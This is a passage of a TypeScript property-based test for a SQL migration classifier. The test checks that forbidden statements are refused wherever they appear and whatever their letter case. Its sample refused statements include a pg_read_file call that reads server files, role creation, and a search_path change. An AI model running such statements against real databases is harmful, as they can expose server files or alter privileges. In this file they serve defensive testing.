      fc.asyncProperty(
        cleanScript,
        fc.constantFrom(...FORBIDDEN_STATEMENTS),
        fc.nat(),
        fc.array(separator, { minLength: 1, maxLength: 4 }),
        async (stmts, [forbidden, code], at, seps) => {
          const index = at % (stmts.length + 1);
          const script = [...stmts.slice(0, index), forbidden, ...stmts.slice(index)];
          const result = await classifyMigration(join(script, seps));
          expect(result.ok ? "accepted" : [result.error.code, result.error.statementIndex]).toEqual([
            code,
            index,
          ]);
        },
      ),
      { numRuns: 200 },
    );
  });

  it("keyword case does not matter", async () => {
    const caseFree: ReadonlyArray<readonly [string, ClassifierRefusalCode]> = [
      ["commit and chain", "transaction_control"],
      ["rollback to savepoint s", "transaction_control"],
      ["vacuum full items", "non_transactional"],
      ["create index concurrently i on items (id)", "non_transactional"],
      ["create role r", "cluster_wide"],
      ["select pg_catalog.pg_read_file(name) from items", "side_channel"],
      ["set search_path = evil", "session_state"],
      ["select set_config(name, name, false) from items", "session_state"],
    ];
    const flips = fc.array(fc.boolean(), { minLength: 64, maxLength: 64 });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...caseFree), flips, async ([sql, code], flip) => {
        const mangled = [...sql]
          .map((ch, i) => (flip[i % flip.length] === true ? ch.toUpperCase() : ch))
          .join("");
        expect(await outcome(mangled)).toBe(code);
      }),
      { numRuns: 100 },
    );
  });
});
